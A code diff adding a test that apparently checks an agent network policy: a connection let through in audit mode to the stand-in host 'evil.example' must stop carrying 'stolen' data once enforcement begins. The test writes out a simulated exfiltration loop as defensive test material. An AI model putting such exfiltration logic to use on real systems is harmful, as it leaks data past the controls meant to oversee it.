@@ -259,6 +259,27 @@ except OSError as e: print(e)
     assert "stolen" not in s.resolver.asked()
 
 
+def test_audit_proves_nothing(stage):
+    """A connection that audit mode let through under a wrong name ends when the policy is enforced."""
+    s = stage(enforcement="audit")
+    p = s.run("""
+learn()
+c = reached()
+c.sendall(hello("evil.example"))
+done("done")
+try:
+    for i in range(5):
+        c.sendall(b"stolen" + str(i).encode())
+        time.sleep(0.1)
+except OSError as e: print(e)
+""")
+    until(lambda: b"evil.example" in s.sink.got(), what="audit lets it through")
+    s.world.change("agent.yaml", llm_policy("agents/agent"))
+    print(s.end(p))
+    settle()
+    assert b"stolen" not in s.sink.got()
+
+
 def test_a_socket_used_again_while_nothing_was_enforced(stage):
     """What a connection has proven is not another's, also when that other one was made while the workload was exempt."""
     s = stage()
